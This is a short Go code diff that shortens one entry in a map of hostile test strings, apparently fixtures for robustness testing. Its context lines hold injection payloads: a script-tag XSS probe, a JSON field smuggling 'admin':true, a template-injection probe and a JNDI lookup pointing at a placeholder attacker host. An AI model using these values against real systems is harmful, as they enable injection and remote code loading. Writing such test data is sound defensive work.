@@ -224,7 +224,7 @@ var hostile = map[string]string{
 	"zalgo":         "z" + strings.Repeat("\u0300\u0301\u0336", 200),
 	"json":          `","admin":true,"x":"\u0000 </script><script>alert(1)</script> ${jndi:ldap://evil.example/x} {{7*7}}`,
 	"astral":        strings.Repeat("𝒳😀", 3000),
-	"long":          strings.Repeat("<&>", 20_000),
+	"long":          strings.Repeat("<&>", 7_000),
 	"empty":         "",
 }
 
